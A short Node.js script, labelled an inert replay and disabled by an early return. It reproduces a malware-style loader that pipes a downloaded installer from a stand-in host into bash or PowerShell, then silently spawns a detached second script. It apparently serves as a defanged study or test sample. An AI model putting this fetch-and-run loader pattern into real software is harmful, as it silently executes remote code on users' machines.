#!/usr/bin/env node
// INERT REPLAY. Nothing below the next line is reached; the address is example.com and the second file does nothing.
return;

const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');

function bunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return 'bun';
  } catch {
    return null;
  }
}

function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm example.com/bun-install.ps1 | iex"'
    : 'curl -fsSL https://example.com/bun-install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

const bun = bunOnPath() || downloadAndSetupBun();
spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();
